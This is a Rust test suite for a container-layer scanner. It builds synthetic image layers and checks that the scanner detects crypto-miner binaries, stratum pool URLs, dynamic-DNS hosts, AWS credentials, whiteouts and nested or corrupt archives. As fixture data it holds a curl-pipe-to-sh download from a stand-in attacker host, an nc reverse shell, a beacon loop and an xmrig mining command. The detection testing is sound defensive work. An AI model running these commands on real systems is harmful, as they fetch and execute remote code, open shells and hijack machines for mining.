//! Layers with known content: what must be found, where, and reported how.

use hubcensus_layer::{LayerSource, Limits, SkipReason, Whiteout};
use hubcensus_types::{Category, Compression, Confidence, IndicatorKind, Subject};

use crate::support::*;

fn miner_layer() -> Vec<u8> {
    Tar::new()
        .dir("usr/")
        .dir("usr/bin/")
        .exe("usr/bin/xmrig", &xmrig_elf())
        .file("etc/hosts", b"127.0.0.1 localhost\n")
        .file("opt/run.sh", b"#!/bin/sh\ncurl -s http://payload.evil-updates.duckdns.org/x.sh | sh\n")
        .bytes()
}

#[test]
fn an_xmrig_like_elf_is_found_by_name_and_content() {
    let scan = scan(&miner_layer());
    assert_eq!(scan.error, None);
    assert!(has(&scan, "miner_binary_name", "usr/bin/xmrig"), "{:?}", hits(&scan));
    assert!(has(&scan, "miner_strings", "usr/bin/xmrig"), "{:?}", hits(&scan));
    assert!(has(&scan, "stratum_url", "usr/bin/xmrig"), "{:?}", hits(&scan));
    let f = scan.findings.iter().find(|f| f.rule == "miner_strings").unwrap();
    assert_eq!(f.category, Category::Cryptomining);
    assert_eq!(f.subject, subject());
    assert_eq!(scan.entries, 5);
}

#[test]
fn hosts_are_judged_once_at_the_first_path_that_named_them() {
    let scan = scan(&miner_layer());
    let ddns: Vec<_> = scan.findings.iter().filter(|f| f.category == Category::DynamicDns).collect();
    assert!(!ddns.is_empty(), "{:?}", hits(&scan));
    assert!(ddns.iter().all(|f| f.path == "opt/run.sh"));
    assert!(
        scan.indicators.iter().any(|(i, p)| i.kind == IndicatorKind::Host
            && i.value == "payload.evil-updates.duckdns.org"
            && p == "opt/run.sh"),
        "{:?}",
        scan.indicators
    );
}

#[test]
fn a_host_named_only_in_documentation_is_low_and_one_also_in_a_script_is_high_there() {
    let thanks = gzip(b"Mail: Bohan <bohan@bohan.dyndns.org>\nRelay: relay.evil-updates.duckdns.org\n");
    let layer = Tar::new()
        .file("usr/share/doc/coreutils/THANKS.gz", &thanks)
        .file("opt/run.sh", b"#!/bin/sh\nnc relay.evil-updates.duckdns.org 4444 -e /bin/sh\n")
        .bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    let ddns = |host: &str| {
        let f: Vec<_> =
            scan.findings.iter().filter(|f| f.rule == "dynamic_dns_host" && f.preview == host).collect();
        assert_eq!(f.len(), 1, "{host}: {:?}", hits(&scan));
        (f[0].path.clone(), f[0].confidence)
    };
    assert_eq!(ddns("bohan.dyndns.org"), ("usr/share/doc/coreutils/THANKS.gz".into(), Confidence::Low));
    assert_eq!(ddns("relay.evil-updates.duckdns.org"), ("opt/run.sh".into(), Confidence::High));
    let paths: Vec<_> = scan.indicators.iter().map(|(i, p)| (i.value.as_str(), p.as_str())).collect();
    assert!(paths.contains(&("relay.evil-updates.duckdns.org", "opt/run.sh")), "{paths:?}");
    assert!(paths.contains(&("bohan.dyndns.org", "usr/share/doc/coreutils/THANKS.gz")), "{paths:?}");
}

/// A list of providers under no known name, kept as a zip of per-TLD members the way OpenJDK
/// keeps the Public Suffix List: recognised by its content as one unit, so its hosts are low,
/// while a script naming one of them is still high at the script.
#[test]
fn a_list_of_providers_is_recognised_by_content_and_a_script_still_counts() {
    let suffixes = [
        ("org", "duckdns.org\nmywire.org\nno-ip.org\nhopto.org\nzapto.org\nmyftp.org\n"),
        ("com", "dynu.com\nno-ip.com\ntheworkpc.com\nkozow.com\nservebeer.com\n"),
        ("net", "ddns.net\nsytes.net\nbounceme.net\n"),
    ];
    let members: Vec<(&str, &[u8])> = suffixes.iter().map(|(n, d)| (*n, d.as_bytes())).collect();
    let list = zip(&members);
    let layer = Tar::new()
        .file("opt/vendor/share/suffixes.bin", &list)
        .file("opt/app/AUTHORS", b"Meson Maintainer <meson@meson.dyndns.org>\n")
        .file("opt/run.sh", b"#!/bin/sh\nwhile true; do curl -s http://sytes.net/ping; sleep 60; done\n")
        .bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    let counted: Vec<_> = scan
        .findings
        .iter()
        .filter(|f| f.confidence >= Confidence::Medium)
        .map(|f| (f.rule.as_str(), f.preview.as_str(), f.path.as_str()))
        .collect();
    assert_eq!(counted, [("dynamic_dns_host", "sytes.net", "opt/run.sh")], "{:?}", hits(&scan));
    let low = |host: &str| {
        let f = scan
            .findings
            .iter()
            .find(|f| f.preview == host)
            .unwrap_or_else(|| panic!("{host}: {:?}", hits(&scan)));
        (f.confidence, f.detail.get("false_positive").cloned().unwrap_or_default())
    };
    let (c, why) = low("duckdns.org");
    assert!(c == Confidence::Low && why.contains("list of providers"), "{why}");
    let (c, why) = low("meson.dyndns.org");
    assert!(c == Confidence::Low && why.contains("e-mail address"), "{why}");
}

#[test]
fn the_same_layer_gives_the_same_findings_plain_gzip_and_zstd() {
    let tar = miner_layer();
    let plain = scan(&tar);
    let gz = scan(&gzip(&tar));
    let zst = scan(&zstd(&tar));
    assert_eq!(
        (plain.compression, gz.compression, zst.compression),
        (Compression::None, Compression::Gzip, Compression::Zstd)
    );
    assert!(!plain.findings.is_empty());
    assert_eq!(plain.findings, gz.findings);
    assert_eq!(plain.findings, zst.findings);
    assert_eq!(plain.indicators, zst.indicators);
    assert_eq!((plain.bytes, gz.bytes, zst.bytes), (tar.len() as u64, tar.len() as u64, tar.len() as u64));
    assert!(gz.compressed_bytes < gz.bytes);
}

#[test]
fn magic_bytes_win_over_the_declared_media_type() {
    let w = walker(Limits::default());
    let known = LayerSource { declared: Some(Compression::Gzip), ..LayerSource::default() };
    let scan = w.scan_layer_from(&zstd(&miner_layer())[..], subject(), known);
    assert_eq!(scan.error, None);
    assert_eq!(scan.compression, Compression::Zstd);
    assert_eq!(scan.declared_compression, Some(Compression::Gzip));
    assert!(has(&scan, "miner_strings", "usr/bin/xmrig"));
}

#[test]
fn a_key_deleted_by_a_whiteout_is_reported_with_the_whiteout() {
    // Lower layer adds the key, upper layer deletes it: both facts come out, for the image to join.
    let lower = scan(&gzip(&Tar::new().file("root/.aws/credentials", AWS_CREDENTIALS).bytes()));
    assert!(has(&lower, "aws_access_key_id", "root/.aws/credentials"), "{:?}", hits(&lower));
    let upper = scan(&gzip(
        &Tar::new()
            .file("root/.aws/.wh.credentials", b"")
            .file("opt/app/.wh..wh..opq", b"")
            .file("opt/app/new", b"x")
            .bytes(),
    ));
    assert_eq!(upper.error, None);
    assert_eq!(
        upper.whiteouts,
        vec![
            Whiteout { path: "root/.aws/credentials".into(), opaque: false },
            Whiteout { path: "opt/app".into(), opaque: true }
        ]
    );
    assert!(upper.findings.is_empty(), "whiteout markers are not scanned as files");
}

#[test]
fn a_jar_containing_a_secret_is_entered() {
    let jar = zip(&[
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"),
        ("BOOT-INF/classes/application.properties", AWS_CREDENTIALS),
    ]);
    let layer = gzip(&Tar::new().file("app/service.jar", &jar).bytes());
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(
        has(&scan, "aws_access_key_id", "app/service.jar!/BOOT-INF/classes/application.properties"),
        "{:?}",
        hits(&scan)
    );
    assert_eq!(scan.entries, 3, "the jar's members count as entries");
}

#[test]
fn tar_gz_inside_a_layer_is_entered_and_gz_files_are_not() {
    let inner = gzip(&Tar::new().file("conf/credentials", AWS_CREDENTIALS).bytes());
    let man = gzip(b".TH LS 1\nnothing to see\n");
    let layer = Tar::new().file("srv/backup.tgz", &inner).file("usr/share/man/man1/ls.1.gz", &man).bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(has(&scan, "aws_access_key_id", "srv/backup.tgz!/conf/credentials"), "{:?}", hits(&scan));
    assert!(scan.skipped.is_empty(), "{:?}", scan.skipped);
    assert_eq!(scan.entries, 3, "a gzipped file is one file, not an archive of entries");
}

#[test]
fn a_compressed_file_is_scanned_as_what_it_decompresses_to() {
    let script = b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge\n";
    let layer = Tar::new()
        .file("opt/start.sh.gz", &gzip(script))
        .file("opt/keys.zst", &zstd(AWS_CREDENTIALS))
        .bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(has(&scan, "stratum_url", "opt/start.sh.gz"), "{:?}", hits(&scan));
    assert!(has(&scan, "aws_access_key_id", "opt/keys.zst"), "{:?}", hits(&scan));
    assert!(scan.skipped.is_empty(), "{:?}", scan.skipped);
}

#[test]
fn a_corrupt_compressed_file_is_recorded_and_its_bytes_still_scanned() {
    let mut gz = gzip(AWS_CREDENTIALS);
    let n = gz.len();
    gz[n / 2] ^= 0xff;
    gz.truncate(n - 4);
    let layer = Tar::new().file("opt/bad.gz", &gz).file("root/.aws/credentials", AWS_CREDENTIALS).bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(
        matches!(&scan.skipped[..], [s] if s.path == "opt/bad.gz" && matches!(s.reason, SkipReason::Corrupt(_))),
        "{:?}",
        scan.skipped
    );
    assert!(has(&scan, "aws_access_key_id", "root/.aws/credentials"));
}

#[test]
fn a_corrupt_nested_archive_is_recorded_and_the_layer_goes_on() {
    let mut jar = zip(&[("a.txt", b"hello")]);
    let n = jar.len();
    jar.truncate(n - 30); // cut the central directory
    let layer =
        Tar::new().file("lib/broken.jar", &jar).file("root/.aws/credentials", AWS_CREDENTIALS).bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(
        matches!(&scan.skipped[..], [s] if s.path == "lib/broken.jar" && matches!(s.reason, SkipReason::Corrupt(_)))
    );
    assert!(has(&scan, "aws_access_key_id", "root/.aws/credentials"));
}

#[test]
fn big_files_are_scanned_in_head_and_tail() {
    let mut big = AWS_CREDENTIALS.to_vec();
    big.resize(3 << 20, b' ');
    big.extend_from_slice(b"\nstratum+tcp://pool.minexmr.com:4444\n");
    let limits = Limits { max_file_scan_bytes: 1 << 20, ..Limits::default() };
    // A big file in the layer, and one whose length only its decompression tells.
    for (path, layer) in [
        ("opt/big.txt", gzip(&Tar::new().file("opt/big.txt", &big).bytes())),
        ("var/log/big.log.gz", Tar::new().file("var/log/big.log.gz", &gzip(&big)).bytes()),
    ] {
        let scan = scan_with(&layer, limits.clone());
        assert_eq!(scan.error, None);
        assert_eq!(scan.truncated_files, 1);
        assert!(has(&scan, "aws_access_key_id", path), "{:?}", hits(&scan));
        assert!(has(&scan, "stratum_url", path), "{:?}", hits(&scan));
    }
}

#[test]
fn long_gnu_and_pax_names_name_the_file() {
    let deep = format!("{}/credentials", "very-long-directory-name".repeat(8));
    let layer = Tar::new()
        .file(&deep, AWS_CREDENTIALS)
        .pax_path("pax/named/credentials")
        .file("ignored-short-name", AWS_CREDENTIALS)
        .bytes();
    let scan = scan(&layer);
    assert_eq!(scan.error, None);
    assert!(has(&scan, "aws_access_key_id", &deep), "{:?}", hits(&scan));
    assert!(has(&scan, "aws_access_key_id", "pax/named/credentials"), "{:?}", hits(&scan));
    assert_eq!(scan.entries, 2);
}

#[test]
fn findings_are_capped() {
    let mut t = Tar::new();
    for i in 0..20 {
        t = t.file(&format!("k{i}/credentials"), AWS_CREDENTIALS);
    }
    let scan = scan_with(&t.bytes(), Limits { max_findings: 5, ..Limits::default() });
    assert_eq!(scan.findings.len(), 5);
    assert!(scan.findings_truncated);
    assert_eq!(scan.error, None);
}

#[test]
fn one_walker_scans_many_layers_with_its_buffers() {
    let w = walker(Limits::default());
    for _ in 0..3 {
        let scan = w.scan_layer(&miner_layer()[..], Subject::Config);
        assert!(scan.findings.iter().all(|f| f.subject == Subject::Config));
        assert!(has(&scan, "miner_strings", "usr/bin/xmrig"));
    }
}
